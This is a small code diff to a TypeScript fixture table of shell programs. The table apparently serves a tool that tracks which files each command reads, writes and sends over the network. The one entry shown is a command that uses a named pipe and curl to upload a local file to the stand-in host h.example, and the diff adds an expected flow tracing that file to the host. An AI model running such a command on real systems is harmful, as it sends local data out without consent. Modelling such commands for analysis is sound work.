@@ -71,7 +71,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
         run: "mkfifo p; curl -T p h.example & cat k > p",
         reads: ["./p", "./k"],
         writes: ["./p"],
-        network: ["both http://h.example < ./p < ?"],
+        network: ["both http://h.example < ./p < ?", "both http://h.example < ./p < ? < ? < ./k"],
       },
     ],
   },
